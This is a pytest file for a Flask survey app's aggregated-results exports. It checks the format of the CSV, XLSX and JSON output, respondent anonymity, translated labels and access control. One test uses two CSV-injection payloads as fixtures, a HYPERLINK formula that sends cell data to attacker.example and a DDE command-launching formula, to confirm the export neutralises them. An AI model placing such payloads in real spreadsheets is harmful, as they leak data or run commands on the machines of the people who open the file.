"""Exports of a round's aggregated result: CSV, XLSX and JSON that parse back, and nothing more."""

from __future__ import annotations

import csv
import io
import json

import pytest
from flask import Flask
from openpyxl import load_workbook

from assessment.accounts.organisations import Organisation
from assessment.core.extensions import db
from assessment.results.exports import CODES, neutralise
from assessment.survey.models import AssessmentRound, Invitation
from tests.fixtures import journeys
from tests.functional.test_results_page import Demo, seed_results

SCOPES = {"overall", "dimension", "item", "principle", "facet"}
HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


@pytest.fixture(scope="module")
def demo(module_app: Flask) -> Demo:
    """Seeded once for the module; each test's writes are rolled back (see ``module_app``)."""
    return seed_results(module_app)


def read_csv(body: bytes) -> list[dict[str, str]]:
    text = body.decode("utf-8-sig")
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames or ()) == CODES
    return list(reader)


def people_of(app: Flask) -> list[str]:
    with app.app_context():
        return list(db.session.execute(db.select(Invitation.email)).scalars())


def test_the_csv_has_a_header_and_one_row_per_aggregate(app: Flask, demo: Demo) -> None:
    response = journeys.coordinator(app).get(demo.completed + "/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert "-results-en.csv" in response.headers["Content-Disposition"]
    rows = read_csv(response.data)
    assert {row["scope"] for row in rows} == SCOPES
    overall = [row for row in rows if row["scope"] == "overall"]
    assert {row["questionnaire"] for row in overall} == {
        "leadership-mindsets", "innovation-skills", "ecosystem-partners", "innovation-portfolio",
    }  # fmt: skip
    assert all(row["respondents"] == "10" for row in overall)
    dimension = next(row for row in rows if row["code"] == "mandate-and-strategy")
    assert dimension["label"] == "Mandate and strategy"
    # The demo agency is at level 2 here; the default target is one level up.
    assert (dimension["level"], dimension["target_level"]) == ("2", "3")
    assert dimension["owner"] == "" and dimension["due_on"] == ""  # none set yet
    assert 1 <= float(dimension["score"]) <= 5
    item = next(row for row in rows if row["code"] == "lm-mandate-written")
    assert item["scope"] == "item" and item["dimension"] == "mandate-and-strategy"
    assert item["label"].startswith("Does your organisation have a clear, agreed mandate")
    assert [row["code"] for row in rows if row["scope"] == "principle"] == ["1", "2", "3", "4", "5"]


def test_no_export_holds_anything_about_a_single_respondent(app: Flask, demo: Demo) -> None:
    coordinator = journeys.coordinator(app)
    people = people_of(app)
    assert people
    for fmt in ("csv", "xlsx", "json"):
        body = coordinator.get(f"{demo.completed}/export.{fmt}").data
        assert not [p for p in people if p.encode() in body], fmt
    rows = read_csv(coordinator.get(demo.completed + "/export.csv").data)
    assert rows and all(row["scope"] in SCOPES for row in rows)
    # Every row stands for several people: none counts a single respondent.
    assert all(row["respondents"] in ("", "10") for row in rows)
    assert not {"email", "respondent", "response_id", "answer_code", "comment"} & set(CODES)


def test_the_xlsx_and_json_hold_the_same_rows_as_the_csv(app: Flask, demo: Demo) -> None:
    coordinator = journeys.coordinator(app)
    rows = read_csv(coordinator.get(demo.completed + "/export.csv").data)

    response = coordinator.get(demo.completed + "/export.xlsx")
    assert response.mimetype.endswith("spreadsheetml.sheet")
    workbook = load_workbook(io.BytesIO(response.data), read_only=True)
    sheet = list(workbook["results"].iter_rows(values_only=True))
    assert sheet[0] == CODES
    assert len(sheet) - 1 == len(rows)
    assert [r[CODES.index("code")] for r in sheet[1:]] == [r["code"] for r in rows]
    columns = list(workbook["columns"].iter_rows(values_only=True))
    assert columns[0] == ("code", "label") and len(columns) - 1 == len(CODES)

    document = json.loads(coordinator.get(demo.completed + "/export.json").data)
    assert document["format"] == "innovation-maturity-aggregates"
    assert [c["code"] for c in document["columns"]] == list(CODES)
    assert len(document["rows"]) == len(rows)
    assert document["method"]["min_group_size"] == 3
    first = document["rows"][0]
    assert isinstance(first["score"], float) and isinstance(first["respondents"], int)


def test_labels_follow_the_chosen_language_and_codes_stay_the_same(app: Flask, demo: Demo) -> None:
    coordinator = journeys.coordinator(app)
    english = read_csv(coordinator.get(demo.completed + "/export.csv?lang=en").data)
    french = read_csv(coordinator.get(demo.completed + "/export.csv?lang=fr").data)
    assert [r["code"] for r in french] == [r["code"] for r in english]
    dimension = next(row for row in french if row["code"] == "mandate-and-strategy")
    assert dimension["label"] == "Mandat et stratégie"
    document = json.loads(coordinator.get(demo.completed + "/export.json?lang=fr").data)
    assert document["lang"] == "fr"
    assert document["columns"][CODES.index("label")]["label"] == "Libellé"


def test_cells_that_would_start_a_formula_are_neutralised(app: Flask, demo: Demo) -> None:
    with app.app_context():
        agency = db.session.execute(
            db.select(Organisation).filter_by(slug="demo-agency")
        ).scalar_one()
        agency.name = "@SUM(1+1)*cmd|' /C calc'!A0"
        round_id = int(demo.completed.split("/")[4])
        db.session.get(AssessmentRound, round_id).title = HOSTILE_TITLE
        db.session.commit()
    coordinator = journeys.coordinator(app)
    rows = read_csv(coordinator.get(demo.completed + "/export.csv").data)
    assert {row["round_title"] for row in rows} == {"'" + HOSTILE_TITLE}
    assert {row["organisation"] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}

    data = coordinator.get(demo.completed + "/export.xlsx").data
    sheet = load_workbook(io.BytesIO(data))["results"]
    title_cell = sheet.cell(row=2, column=CODES.index("round_title") + 1)
    assert title_cell.value == "'" + HOSTILE_TITLE and title_cell.data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
     ("Plain", "Plain"), (-1.5, -1.5), (None, None)],
)  # fmt: skip
def test_neutralise_quotes_formula_text_and_leaves_numbers_alone(value, written) -> None:
    assert neutralise(value) == written


def test_below_the_minimum_group_size_no_score_is_exported(app: Flask, demo: Demo) -> None:
    # The in-progress round has one submitted response: its result would be that person's.
    rows = read_csv(journeys.coordinator(app).get(demo.in_progress + "/export.csv").data)
    assert [row for row in rows if row.get("score")] == []
    completed = read_csv(journeys.coordinator(app).get(demo.completed + "/export.csv").data)
    assert [row for row in completed if row.get("score")] != []


def test_unknown_formats_and_other_organisations_get_nothing(app: Flask, demo: Demo) -> None:
    coordinator = journeys.coordinator(app)
    assert coordinator.get(demo.completed + "/export.txt").status_code == 404
    other = f"/organisations/{demo.other_slug}/rounds/{demo.other_round}/results/export.csv"
    assert coordinator.get(other).status_code == 404
    assert app.test_client().get(demo.completed + "/export.csv").status_code == 302  # sign in
